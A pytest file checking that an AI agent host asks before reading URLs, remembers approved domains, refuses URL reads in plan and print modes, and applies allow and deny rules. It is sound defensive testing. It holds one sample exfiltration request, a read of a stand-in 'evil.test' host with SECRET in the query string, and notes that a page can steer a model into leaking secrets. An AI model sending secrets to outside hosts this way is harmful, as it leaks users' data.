"""A ``read`` of a URL is asked about as Claude Code asks before WebFetch: the page's host can learn
what the URL carries (a model steered by a page could send a secret in a query string). ``default``
and ``acceptEdits`` ask, ``plan`` refuses, "Allow for this session" remembers the domain, and
``WebFetch(domain:…)`` / ``Read(<url pattern>)`` rules allow, ask or deny. Before: in every mode a
read of any URL ran without asking, and no rule could name one."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from appr_helpers import Dialogs, call, text, turn
from pm_helpers import Sandbox

from atomic_host.testing import start_host


class Handler(BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self) -> None:
        Handler.seen.append(self.path)
        body = f"page {self.path}\n".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None:
        pass


@pytest.fixture
def port() -> Iterator[int]:
    Handler.seen = []
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1]
    httpd.shutdown()
    httpd.server_close()


def _settings(mode: str, **rules: list[str]) -> dict[str, object]:
    return {"read": {"allowPrivateUrls": True}, "permissions": {"defaultMode": mode, **rules}}


async def test_a_url_read_is_asked_and_remembered_by_domain(port: int) -> None:
    settings = _settings(
        "default",
        allow=["WebFetch(domain:localhost)"],
        deny=["WebFetch(domain:*.evil.test)", "Read(http://127.0.0.1:*/secret*)"],
    )
    async with start_host(settings=settings) as host:
        (host.cwd / "local.txt").write_text("local\n")
        dialogs = Dialogs(host, {"value": "Allow for this session"})
        ends = await turn(
            host,
            call("read", {"path": f"http://127.0.0.1:{port}/a.txt"}, "asked"),
            call("read", {"path": f"http://localhost:{port}/b.txt"}, "rule"),
            call("read", {"path": "http://x.evil.test/?k=SECRET"}, "evil"),
            call("read", {"path": f"http://127.0.0.1:{port}/secret.txt"}, "pattern"),
            call("read", {"path": "local.txt"}, "local"),
        )
        assert dialogs.asked() == ["asked"]
        request = dialogs.requests[0]
        assert request["title"] == f"Allow read: http://127.0.0.1:{port}/a.txt?"
        assert request["approval"]["scope"] == "WebFetch(domain:127.0.0.1)"
        assert "page /a.txt" in text(ends["asked"]) and "page /b.txt" in text(ends["rule"])
        deny = "Permission to use read was denied by the rule {} (user settings)"
        assert text(ends["evil"]) == deny.format("WebFetch(domain:*.evil.test)")
        assert text(ends["pattern"]) == deny.format("Read(http://127.0.0.1:*/secret*)")
        assert text(ends["local"]).endswith("local")
        ends = await turn(host, call("read", {"path": f"http://127.0.0.1:{port}/c.txt"}, "remembered"))
        assert dialogs.asked() == ["asked"] and "page /c.txt" in text(ends["remembered"])
    assert sorted(Handler.seen) == ["/a.txt", "/b.txt", "/c.txt"]


async def test_plan_refuses_a_url_read_and_no_mode_runs_it(port: int) -> None:
    url = f"http://127.0.0.1:{port}/p.txt"
    async with start_host(settings=_settings("plan")) as host:
        ends = await turn(host, call("read", {"path": url}, "planned"), call("read", {"path": "."}, "dir"))
        assert text(ends["planned"]).startswith("read is not allowed in plan mode")
        assert not ends["dir"]["isError"]
    assert Handler.seen == []
    async with start_host(settings={"read": {"allowPrivateUrls": True}}) as host:
        ends = await turn(host, call("read", {"path": url}, "free"))
        assert "page /p.txt" in text(ends["free"])


def test_print_mode_refuses_a_url_read_and_names_the_rule(tmp_path: Path, port: int) -> None:
    url = f"http://127.0.0.1:{port}/print.txt"
    box = Sandbox(tmp_path, {"content": [call("read", {"path": url}, "r1")]}, "done")
    proc = box.run("--permission-mode", "default", "-p", "go")
    last = [json.loads(line) for line in box.log.read_text().splitlines() if line.strip()][-1]
    result = next(m for m in last["context"]["messages"] if m.get("toolCallId") == "r1")
    refused = "".join(b.get("text", "") for b in result["content"])
    assert refused.startswith("read was not run: the permission mode default asks before a read of a URL, and print")
    assert "a permissions.allow rule such as WebFetch(domain:127.0.0.1)" in refused
    assert f"atomic: permission: refused read: {url}: the permission mode default asks before a read" in proc.stderr
    assert Handler.seen == []
